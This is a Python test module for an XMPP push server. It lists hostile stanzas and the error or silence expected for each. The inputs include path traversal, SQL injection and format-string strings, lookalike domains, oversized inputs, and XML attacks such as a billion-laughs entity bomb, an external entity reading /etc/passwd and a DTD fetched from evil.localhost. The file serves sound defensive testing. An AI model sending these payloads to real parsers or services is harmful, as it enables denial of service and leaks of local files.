"""What hostile peers send, and what p2 must say to it: the table of the hostile scenarios.

An answer is what `shapes.verdict` gives for it; SILENCE: there must be none; the inputs of `stream_enders` are answered
with a stream error. `{id}` stands for the input's own id.
"""

from xml.sax.saxutils import quoteattr

from p2test import shapes
from p2test.shapes import COMMANDS, DATA, MALFORMED, NOT_FOUND, PUBSUB, PUSH

SILENCE = None
UNAVAILABLE = "cancel/service-unavailable"
NOT_IMPLEMENTED = "cancel/feature-not-implemented"
TOO_BIG = BROKEN = shapes.WAIT  # an honest server may have put a stranger's text into its publish
LONG_ID = "modify/policy-violation"
JID_MALFORMED = "modify/jid-malformed"
MALLORY = "mallory@evil.localhost/x"
PING = "<ping xmlns='urn:xmpp:ping'/>"
INFO = "http://jabber.org/protocol/disco#info"
ITEMS = "http://jabber.org/protocol/disco#items"


def iq(payload, kind="set", sender=MALLORY, to="push.im.localhost", id="{id}", more=""):
    return f"<iq type={quoteattr(kind)} id='{id}' from={quoteattr(sender)} to={quoteattr(to)}{more}>{payload}</iq>"


def command(content="", node="register-push-fcm", action="execute", session=None):
    more = "" if session is None else f" sessionid={quoteattr(session)}"
    more += "" if action is None else f" action={quoteattr(action)}"
    return f"<command xmlns='{COMMANDS}' node={quoteattr(node)}{more}>{content}</command>"


def options(content):
    return f"<publish-options><x xmlns='{DATA}' type='submit'>{content}</x></publish-options>"


def field(var, *values):
    return f"<field var={quoteattr(var)}>" + "".join(f"<value>{value}</value>" for value in values) + "</field>"


def pubsub(content, ns=PUBSUB):
    return f"<pubsub xmlns='{ns}'>{content}</pubsub>"


def publishes(victim):
    """Requests to publish by those who may not, or that are none. `victim`: somebody's Registration."""
    for size in (1, 2, 11, 13, 24, 63, 64, 65, 255, 1000, 10_000, 60_000):
        yield f"node of {size}", iq(shapes.publish("A" * size, "s")), NOT_FOUND
    strange = ["../../etc/passwd", "' OR 1=1 --", "%00", "%s%n%p", "\u202e", "\U0001f4a9" * 12, "\n", " ",
               "\t\t\t", "<>&\"'", "null", "-1", "0", "data.mdb", "*", "a\u0301" * 40, "AAAAAAAAAAAA", "=" * 12,
               "/" * 12, victim.node.swapcase(), victim.node[:-1], victim.node + "A", victim.node + "\n",
               " " + victim.node, victim.node[:11] + "\u00e9"]
    for node in strange:
        text = quoteattr(node).replace("\n", "&#10;").replace("\t", "&#9;")
        yield f"node {node!r}", iq(shapes.publish("NODE", "s").replace("'NODE'", text).replace('"NODE"', text)), NOT_FOUND
    for secret in ("x", victim.secret[:-1], victim.secret.swapcase(), " " + victim.secret, victim.node, "0" * 24,
                   "\u20ac" * 8, "=" * 24, "A" * 64):
        yield f"secret {secret!r}", iq(shapes.publish(victim.node, secret), sender="im.localhost"), NOT_FOUND
    for domain in ("evil.localhost", "xim.localhost", "x.im.localhost", "im.localhost.evil", "localhost", "im",
                   "i\u043c.localhost", "push.im.localhost", "im.localhost..", ".im.localhost", "im.localhost@evil",
                   "xn--im-.localhost", "xn--.localhost", "im\u3002localhost", "\U0001f4a9.localhost"):
        yield f"from {domain}", iq(shapes.publish(victim.node, victim.secret), sender=domain), NOT_FOUND
    right = field("secret", victim.secret)
    publish = f"<publish node='{victim.node}'/>"
    broken = {
        "no options": publish,
        "no form": publish + "<publish-options/>",
        "form of another namespace": publish + f"<publish-options><x xmlns='urn:x'>{right}</x></publish-options>",
        "options of another namespace": publish + f"<publish-options xmlns='urn:x'><x xmlns='{DATA}'>{right}</x>"
                                                  "</publish-options>",
        "empty form": publish + options(""),
        "secret without a value": publish + options("<field var='secret'/>"),
        "empty secret": publish + options(field("secret", "")),
        "secret of 65": publish + options(field("secret", "A" * 65)),
        "secret of 60,000": publish + options(field("secret", "A" * 60_000)),
        "secret in an attribute": publish + options(f"<field var='secret' value='{victim.secret}'/>"),
        "secret as text": publish + options(f"<field var='secret'>{victim.secret}</field>"),
        "secret of another case": publish + options(field("Secret", victim.secret)),
        "33 fields": publish + options(right + "".join(field(f"f{i}", "") for i in range(32))),
        "1,000 fields": publish + options(right + "<field/>" * 1000),
        "9 values": publish + options(field("secret", *[victim.secret] * 9)),
        "a value of 70,000": publish + options(right + field("x", "A" * 70_000)),
        "no node": f"<publish/>{options(right)}",
        "an empty node": f"<publish node=''/>{options(right)}",
        "no publish": options(right),
        "publish of another namespace": f"<publish xmlns='urn:x' node='{victim.node}'/>{options(right)}",
    }
    for verb in ("delete", "purge", "event", "x"):
        broken[verb] = f"<{verb} node='{victim.node}' jid='a@b'/>"
    for verb in ("subscribe", "unsubscribe", "create", "configure", "items", "retract", "subscriptions",
                 "affiliations", "default", "options"):
        content = f"<{verb} node='{victim.node}' jid='a@b'/>"
        for kind in ("get", "set"):
            yield f"{verb} as a {kind}", iq(pubsub(content), kind, "im.localhost"), NOT_IMPLEMENTED
        broken[f"{verb} and a publish without a node"] = content + "<publish/>" + options(right)
    for name, content in broken.items():
        yield name, iq(pubsub(content), sender="im.localhost"), MALFORMED
        yield f"{name}, as a get", iq(pubsub(content), kind="get", sender="im.localhost"), MALFORMED
    yield "publish as a get", iq(shapes.publish(victim.node, victim.secret), "get", "im.localhost"), MALFORMED


def oddities(victim):
    """What is strange and yet has a right to its answer."""
    for name, content in shapes.NOTIFICATIONS.items():
        for what, node, secret, sender in (("unknown node", "AAAAAAAAAAAA", victim.secret, "im.localhost"),
                                           ("wrong secret", victim.node, "wrong", "im.localhost"),
                                           ("wrong domain", victim.node, victim.secret, "evil.localhost"),
                                           ("wrong domain of a user", victim.node, victim.secret, MALLORY)):
            yield f"{name}, {what}", iq(shapes.publish(node, secret, content), sender=sender), NOT_FOUND
    summary = f"<x xmlns='{DATA}'>" "{}</x>"
    for content in ("<a/>" * 900, "<a>" * 25 + "</a>" * 25, "text", "<![CDATA[</notification>]]>", "&lt;script&gt;",
                    f"<notification xmlns='{PUSH}'/>" * 50, summary.replace("{}", "<field/>" * 500),
                    summary.replace("{}", field("last-message-body", "x" * 100_000)),
                    summary.replace("{}", field("last-message-body", *["x"] * 100)),
                    summary.replace("{}", field("message-count", "-1")), summary.replace("{}", field("message-count", "9" * 500)),
                    summary.replace("{}", field("last-message-body", "\u202e\U0001f4a9&#10;&#13;&#9;")),
                    "<x xmlns='urn:x'/>" * 100, "<a xml:lang='x'/>", "<x:a xmlns:x='urn:x' x:b='1'/>", command(), PING):
        yield f"a right push with {content[:40]}", \
            iq(shapes.publish(victim.node, victim.secret, content), sender="im.localhost"), "result"
    for sender in ("IM.localhost", "im.LOCALHOST", "im.localhost.", "romeo@im.localhost", "im.localhost/x",
                   "romeo@IM.LOCALHOST/\U0001f4a9"):
        yield f"a right push from {sender}", iq(shapes.publish(victim.node, victim.secret), sender=sender), "result"
    for id in ("&lt;", "&amp;lt;", "&quot;&gt;", "&#10;&#13;&#9;", "\u20ac\U0001f4a9", "]]&gt;", "--", "?&gt;", " ", "\\0",
               "%n%s", "i" * 900, "\u202e", "&#x10FFFD;", "../", "&apos;;--"):
        for body, answer in ((PING, "result"), ("<x/>", UNAVAILABLE), (f"<query xmlns='{INFO}' node='x'/>", NOT_FOUND)):
            yield f"the id {id[:20]}", iq(body, "get", id="{id}" + id), answer
    for to in ("PUSH.im.localhost", "push.im.localhost.", "Push.IM.Localhost"):
        for body in (PING, f"<query xmlns='{INFO}'/>", f"<query xmlns='{ITEMS}'/>", "<query xmlns='jabber:iq:version'/>"):
            yield f"to {to}", iq(body, "get", to=to), "result"
    for sender in ("push.im.localhost", "push.im.localhost/x", "x@push.im.localhost", "localhost", "a", "\U0001f4a9", "..",
                   "[::1]", "127.0.0.1", "a" * 1023, "xn--", "xn--\u20ac", "xn--99999999", "&lt;&gt;"):
        yield f"a ping from {sender[:20]}", iq(PING, "get", sender="SENDER").replace('"SENDER"', f"'{sender}'"), "result"


def commands(victim_session):
    """Ad-hoc sessions and forms by those who try what happens. `victim_session`: the id of another one's session."""
    good = shapes.form({"token": "t" * 100, "device-id": "mallory-1"})
    for node in ("", "register", "register-push-FCM", "register-push-apns", "unregister", "ping", "config", "..", "*",
                 "http://jabber.org/protocol/admin#add-user", "http://jabber.org/protocol/admin#shutdown", "n" * 60_000,
                 "register-push-fcm ", "\U0001f4a9"):
        yield f"command {node[:40]!r}", iq(command(good, node)), NOT_FOUND
    for name in ("register-push-fcm", "unregister-push-fcm", "register-push-gcm", "unregister-push-gcm"):
        yield f"{name} as a get", iq(command(good, name), kind="get"), MALFORMED
        for action in ("next", "prev", "EXECUTE", "Complete", "destroy", " ", "a" * 60_000):
            yield f"{name}, action {action[:20]!r}", iq(command(good, name, action)), MALFORMED
        yield f"{name}, complete without a form", iq(command("", name, "complete")), MALFORMED
        for session in ("", "0", "0" * 16, "0" * 56, "f" * 56, "-1", "../", "\U0001f4a9", victim_session,
                        victim_session.upper() + " ", victim_session[:-1], victim_session + "0", "0" * 16 +
                        victim_session[16:], "7fffffffffffffff" + victim_session[16:], "s" * 60_000):
            for action in ("complete", "cancel"):
                if action == "cancel" and session == "":
                    continue  # there is nothing to check
                content = good if action == "complete" and session else ""
                yield f"{name}, {action} of session {session[:60]!r}", iq(command(content, name, action, session)), \
                    MALFORMED
    forms = {
        "no token": {"device-id": "d"}, "an empty token": {"token": "", "device-id": "d"},
        "a token of 4,097": {"token": "t" * 4097, "device-id": "d"},
        "a token of 60,000": {"token": "t" * 60_000, "device-id": "d"}, "no device": {"token": "t"},
        "empty devices": {"token": "t", "device-id": "", "android-id": ""},
        "a device of 257": {"token": "t", "device-id": "d" * 257},
        "a channel with a resource": {"token": "t", "device-id": "d", "muc": "a@b/c"},
        "a channel of two at signs": {"token": "t", "device-id": "d", "muc": "a@b@c"},
        "a channel without a domain": {"token": "t", "device-id": "d", "muc": "a@"},
        "a channel of 5,000": {"token": "t", "device-id": "d", "muc": "a@" + "b" * 5000},
        "a hash that is none": {"token": "t", "device-id": "d", "channel": "x" * 40},
        "a hash of 60,000": {"token": "t", "device-id": "d", "channel": "0" * 60_000},
        "nothing": {}}
    for name, fields in forms.items():
        yield f"a form with {name}", iq(command(shapes.form(fields), action="complete")), MALFORMED
    fields = field("token", "t") + field("device-id", "d")
    huge = {"33 fields": fields + "<field/>" * 31, "9 values": fields + field("x", *"123456789"),
            "a value of 70,000": fields + field("x", "x" * 70_000), "only values": "<value>t</value>" * 500,
            "fields of another namespace": fields.replace("<field", "<field xmlns='urn:x'"),
            "fields in fields": "<field>" * 20 + "</field>" * 20}
    for name, content in huge.items():
        form = f"<x xmlns='{DATA}' type='submit'>{content}</x>"
        yield f"a form of {name}", iq(command(form, action="complete")), MALFORMED
        yield f"to withdraw a form of {name}", iq(command(form, "unregister-push-fcm", "complete")), MALFORMED
    yield "to withdraw another one's device", iq(shapes.unregister("device-1")), NOT_FOUND
    for sender in ("@evil.localhost", "a@", "a@b@c", "a@b/", "/", "@", "a@/x", ".", "m" * 1024 + "@evil.localhost",
                   "m@" + "e" * 1024, "m@evil.localhost/" + "x" * 1024, "m" * 50_000):
        yield f"a registration from {sender[:30]}", iq(command(good, action="complete"), sender=sender), JID_MALFORMED
        yield f"a publish from {sender[:30]}", iq(shapes.publish("n", "s"), sender=sender), JID_MALFORMED


def strangers():
    """Stanzas that are no requests, not for p2, or of protocols that it does not speak."""
    bodies = ("", "<body>hi</body>", f"<x xmlns='{DATA}'/>", command(), shapes.publish("n", "s"), PING)
    for kind in ("", "chat", "groupchat", "headline", "normal", "error"):
        for body in bodies:
            yield f"a message, {kind}", f"<message id='{{id}}' type='{kind}' from='{MALLORY}' to='push.im.localhost'>" \
                                        f"{body}</message>", SILENCE
    for kind in ("", "unavailable", "subscribe", "subscribed", "unsubscribe", "unsubscribed", "probe", "error", "x"):
        yield f"a presence, {kind}", f"<presence id='{{id}}' type='{kind}' from='{MALLORY}' to='push.im.localhost'/>", \
            SILENCE
    for kind in ("result", "error", "", "GET", "Set", "query", "get ", "x" * 60_000):
        for body in bodies:
            yield f"an iq {kind[:10]!r}", iq(body, kind), SILENCE
    for sender in ("im.localhost", "push.im.localhost", "evil.localhost", "fcm.googleapis.com", MALLORY):
        for id in ("p2-ping-1", "p2-ping-2", "fake-1", "", "{id}"):
            for kind in ("result", "error"):
                yield f"a reply to {id} by {sender}", iq("", kind, sender, id=id), SILENCE
                yield f"a reply with a payload to {id} by {sender}", \
                    iq(shapes.publish("n", "s"), kind, sender, id=id), SILENCE
    for sender in ("a@evil&#10;x", "evil.localhost&#9;", "evil .localhost", "evil&#x7f;", "a@evil&#x9b;2J/x"):
        yield f"from {sender}", f"<iq type='get' id='{{id}}' from='{sender}' to='push.im.localhost'>{PING}</iq>", \
            JID_MALFORMED
    whole = {"type": "get", "id": "{id}", "from": MALLORY, "to": "push.im.localhost"}
    for missing in ("type", "id", "from", "to"):
        for value in (None, ""):
            attributes = {k: v if k != missing else value for k, v in whole.items()}
            text = "".join(f" {k}='{v}'" for k, v in attributes.items() if v is not None)
            for body in (PING, command(), ""):
                yield f"{missing} is {value!r}", f"<iq{text}>{body}</iq>", SILENCE
    text = "".join(f" {k}='{v}'" for k, v in whole.items())
    for ns in ("", "jabber:client", "jabber:server", "jabber:component:connect", "urn:x", "jabber:component:accept ",
               "http://etherx.jabber.org/streams"):
        yield f"an iq of {ns!r}", f"<iq xmlns='{ns}'{text}>{PING}</iq>", SILENCE
        yield f"an iq of {ns!r} by prefix", f"<x:iq xmlns:x='{ns or 'urn:y'}'{text}>{PING}</x:iq>", SILENCE
    for name in ("iQ", "IQ", "iq-", "query", "handshake", "stream", "route", "db", "features", "xmpp", "a", "r", "_"):
        yield f"<{name}/>", f"<{name}{text}>{PING}</{name}>", SILENCE
    for name in ("features", "stream", "x"):
        yield f"<stream:{name}/>", f"<stream:{name}{text}/>", SILENCE
    for to in ("other.localhost", "im.localhost", "a@im.localhost", "localhost", "@", "a@", "push.im.localhost.evil",
               "push", "pu\u0455h.im.localhost", "t" * 5000):
        yield f"to {to[:30]}", iq(PING, "get", to=to), SILENCE
        yield f"a registration to {to[:30]}", iq(command(), to=to), SILENCE
    for to in ("a@push.im.localhost", "push.im.localhost/x", "a@push.im.localhost/x", "A" * 1000 + "@push.im.localhost"):
        for body in (PING, command(), shapes.publish("n", "s"), f"<query xmlns='{INFO}'/>"):
            yield f"to {to[:30]}", iq(body, "get", to=to), UNAVAILABLE
    unknown = ("vcard-temp|vCard", "jabber:iq:roster|query", "jabber:iq:register|query", "jabber:iq:search|query",
               "jabber:iq:last|query", "jabber:iq:private|query", "jabber:iq:auth|query", "jabber:iq:rpc|query",
               "jabber:iq:gateway|query", "urn:xmpp:mam:2|query", "urn:xmpp:blocking|blocklist", "urn:xmpp:blocking|block",
               "urn:xmpp:carbons:2|enable", "urn:xmpp:push:0|enable", "urn:xmpp:push:0|disable", "urn:x|ping",
               "http://jabber.org/protocol/pubsub#owner|pubsub", "http://jabber.org/protocol/muc#admin|query",
               "http://jabber.org/protocol/bytestreams|query", "http://jabber.org/protocol/si|si", "urn:xmpp:jingle:1|jingle",
               "urn:ietf:params:xml:ns:xmpp-session|session", "urn:ietf:params:xml:ns:xmpp-bind|bind", "|query",
               "urn:xmpp:http:upload:0|request", "jabber:component:accept|handshake", "jabber:x:data|x",
               "http://etherx.jabber.org/streams|error", "urn:ietf:params:xml:ns:xmpp-stanzas|bad-request")
    for entry in unknown:
        ns, name = entry.split("|")
        for kind in ("get", "set"):
            yield f"{entry} as a {kind}", iq(f"<{name} xmlns='{ns}'><item jid='a@b'/></{name}>", kind), UNAVAILABLE
    for body in (PING, "<query xmlns='jabber:iq:version'/>", "<time xmlns='urn:xmpp:time'/>", f"<query xmlns='{INFO}'/>",
                 f"<query xmlns='{ITEMS}'/>"):
        yield f"{body} as a set", iq(body), UNAVAILABLE
        yield f"{body} twice", iq(body * 2, "get"), MALFORMED
        yield f"{body} and an error", iq(body + "<error type='cancel'/>", "get"), MALFORMED
    for body in ("", "text", "&lt;ping/&gt;", " ", "<![CDATA[<ping xmlns='urn:xmpp:ping'/>]]>"):
        for kind in ("get", "set"):
            yield f"no child but {body!r}, {kind}", iq(body, kind), MALFORMED
    for ns in (INFO, ITEMS):
        for node in ("x", "register-push-fcm ", "http://jabber.org/protocol/admin", "n" * 60_000, "\U0001f4a9"):
            yield f"{ns} of {node[:20]}", iq(f"<query xmlns='{ns}' node='{node}'/>", "get"), NOT_FOUND


def beyond_limits():
    """Stanzas that are too big in one way or another."""
    for what, size in (("300 KB", 300_000), ("1 MB", 1_000_000), ("8 MB", 8_000_000)):
        for name, body in (("a body", "<body>{}</body>"), ("CDATA", "<b><![CDATA[{}]]></b>"), ("an attribute", "<b c='{}'/>"),
                           ("a form", f"<x xmlns='{DATA}'>" + field("x", "{}") + "</x>")):
            yield f"{name} of {what}", iq(body.replace("{}", "x" * size), "get"), TOO_BIG
    for text in ("&lt;", "\u20ac", "<![CDATA[]]>x", "<a/>", "\n", "'\"&gt;"):
        yield f"300,000 times {text}", iq(text * 300_000, "get"), TOO_BIG
    for depth in (33, 40, 100, 1000, 10_000, 40_000):
        for name in ("a", "x:a xmlns:x='urn:x'"):
            tag = name.split(" ")[0]
            yield f"{depth} levels of {tag}", iq(f"<{name}>" * depth + f"</{tag}>" * depth, "get"), TOO_BIG
    for count in (65, 100, 1000, 10_000, 100_000):
        for form in (" a{}='1'", " a{}=''", " xml:a{}='1'"):
            attributes = "".join(form.format(i) for i in range(count))
            yield f"{count} attributes{form}", iq(f"<b{attributes}/>", "get"), TOO_BIG
    for count in (65, 1000, 4000):
        attributes = "".join(f" a{i}='1'" for i in range(count))
        yield f"{count} attributes of its own", iq(PING, "get", more=attributes), TOO_BIG
    yield "a tag of 200 KB", iq(PING, "get", more=f" a='{'x' * 200_000}'"), "result"
    for size in (300_000, 5_000_000):
        yield f"a tag of {size}", iq(PING, "get", more=f" a='{'x' * size}'"), TOO_BIG
        yield f"an id of {size}", iq(PING, "get", id="{id}" + "i" * size), SILENCE  # cut, so nobody can be answered
    for count in (1100, 10_000, 50_000):
        for element in ("<a/>", "<a></a>", f"<x xmlns='{DATA}'/>", field("token", "t")):
            yield f"{count} of {element}", iq(element * count, "get"), TOO_BIG
    for size in (1025, 5000, 50_000, 200_000):
        yield f"an id of {size}", iq(PING, "get", id="{id}" + "i" * size), LONG_ID
    for size, answer in ((70_000, UNAVAILABLE), (100_000, UNAVAILABLE), (500_000, TOO_BIG)):
        name = "n" * size
        yield f"an element's name of {size}", iq(f"<{name}/>", "get"), answer
        yield f"an element's name of {size}, with content", iq(f"<a><{name} b='c'>d</{name}></a>", "get"), answer
        yield f"a stanza's name of {size}", f"<{name} id='{{id}}'/>", SILENCE
    namespaces = "".join(f" xmlns:n{i}='urn:{i}'" for i in range(5000))
    yield "5,000 namespaces", iq(f"<b{namespaces}/>", "get"), TOO_BIG


def ill_formed():
    """Stanzas that no XML parser takes, and that a server which parses loosely passes on as they came."""
    for name, data in {
            "an invalid byte": b"\xff", "a byte order mark of UTF-16": b"\xfe\xff", "a lone continuation": b"\x80",
            "an overlong slash": b"\xc0\xaf", "an overlong NUL": b"\xc0\x80", "a surrogate": b"\xed\xa0\x80",
            "beyond Unicode": b"\xf4\x90\x80\x80", "five bytes": b"\xf8\x88\x80\x80\x80", "a cut character": b"\xe2\x82",
            "Latin-1": b"caf\xe9 ", "NUL": b"\0", "bell": b"\x07", "escape": b"\x1b[2J", "backspace": b"\x08",
            "NULs": b"\0" * 5000, "U+FFFE": b"\xef\xbf\xbe", "U+FFFF": b"\xef\xbf\xbf"}.items():
        text = data.decode("utf-8", "surrogateescape")
        yield f"{name} in text", iq(f"<a>{text}</a>", "get"), BROKEN
        yield f"{name} in an attribute", iq(f"<a b='{text}'/>", "get"), BROKEN
        yield f"{name} in an attribute of its own", iq(PING, "get", more=f" b='{text}'"), BROKEN
        yield f"{name} in CDATA", iq(f"<a><![CDATA[{text}]]></a>", "get"), BROKEN
        yield f"{name} in a name", iq(f"<a{text}/>", "get"), BROKEN
        yield f"{name} in an id", iq(PING, "get", id="{id}" + text), SILENCE
    for text in ("<x:a/>", "<a x:b='1'/>", "<a xmlns:x=''/>", "<a xmlns:xml='urn:x'/>", "<a xmlns:xmlns='urn:x'/>",
                 "<a xmlns='http://www.w3.org/2000/xmlns/'/>", "<a></b>", "<a><b></a></b>", "<a b='1' b='2'/>",
                 "<a xmlns:x='u' xmlns:y='u' x:b='1' y:b='2'/>", "<a xmlns:x='u' xmlns:x='v'/>", "<a b=1/>", "<a b/>",
                 "<a b='1'c='2'/>", "<a b='<'/>", "<a<b/>", "<a'b/>", "< a/>", "<1/>", "<a>]]></a>", "<a>&</a>", "<a>&#0;</a>",
                 "<a>&#x1F;</a>", "<a>&#xD800;</a>", "<a>&#x110000;</a>", "<a>&#99999999999;</a>", "<a b='&#0;'/>",
                 "<a>&amp</a>", "<a xmlns=urn:x/>", "<:a/>", "<a:/>", "<a:b:c xmlns:a='x'/>", "<a b='1' =''/>", "<></>"):
        yield f"{text[:60]} inside", iq(text, "get"), BROKEN
        yield text[:60], text, SILENCE
    for more, answer in ((" x:y='1'", BROKEN), (" xmlns:x='u' xmlns:x='v'", BROKEN), (" to='push.im.localhost'", BROKEN),
                         (" type='get'", SILENCE), (" type='error'", SILENCE), (" b=1", BROKEN), (" b'c='d'", BROKEN)):
        yield f"its own{more}", iq(PING, "get", more=more), answer
    yield "a stanza with a prefix that is not bound", iq(PING, "get").replace("iq", "x:iq"), SILENCE
    yield "a stanza that ends by another name", iq(PING, "get").replace("</iq>", "</message>"), BROKEN


def stream_enders():
    """What no stream may hold: (name, bytes, the stream error)."""
    restricted, malformed, policy = "restricted-xml", "not-well-formed", "policy-violation"
    head = f"<iq type='get' id='{{id}}' from='{MALLORY}' to='push.im.localhost'>"
    lol = "".join(f"<!ENTITY lol{i} '{f'&lol{i - 1};' * 10}'>" for i in range(1, 10))
    for name, text in {
            "a billion laughs": f"<!DOCTYPE lolz [<!ENTITY lol0 'lol'>{lol}]><a>&lol9;</a>",
            "a quadratic blow-up": f"<!DOCTYPE b [<!ENTITY a '{'a' * 60_000}'>]><b>{'&a;' * 60_000}</b>",
            "an external entity": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
            "an external DTD": "<!DOCTYPE a SYSTEM 'http://evil.localhost/a.dtd'><a/>",
            "a public DTD": "<!DOCTYPE html PUBLIC '-//W3C//DTD XHTML 1.0//EN' 'x'>",
            "a parameter entity": "<!DOCTYPE a [<!ENTITY % b SYSTEM 'http://evil.localhost/'>%b;]>",
            "a DTD inside": head + "<!DOCTYPE a>", "a short DTD": "<!DOCTYPE", "an element declaration": "<!ELEMENT a ANY>",
            "an entity": head + "&lol;</iq>", "an entity in an attribute": "<iq id='&lol;'/>",
            "an entity of HTML": head + "&nbsp;</iq>", "another entity of HTML": head + "&copy;</iq>",
            "a comment": "<!-- -->", "a comment inside": head + "<!-- x --></iq>", "an unended comment": "<!--",
            "a comment of 100 KB": "<!--" + "x" * 100_000 + "-->", "a comment with a stanza": f"<!--{head}</iq>-->",
            "a processing instruction": "<?php echo 1 ?>", "one inside": head + "<?x?></iq>",
            "a style sheet": "<?xml-stylesheet href='x'?>", "an XML declaration": "<?xml version='1.0'?>",
            "an encoding": "<?xml version='1.0' encoding='UTF-16'?>", "a conditional section": "<![INCLUDE[x]]>",
            "an odd declaration": "<!x>", "a PI of 100 KB": "<?x " + "x" * 100_000 + "?>"}.items():
        yield name, text.encode(), restricted
    for text in ("text", "\0<iq/>", "\xff", "</a>", "</iq>", "</>", "<iq/>]]>", "<iq type='get'/ >", "<iq <iq/>",
                 "<iq a/b='c'/>"):
        yield text, text.encode("latin-1"), malformed
    yield "NULs", b"\0" * 5000 + b"<a/>", malformed
    yield "an end tag of 100 KB", b"</" + b"a" * 100_000, policy
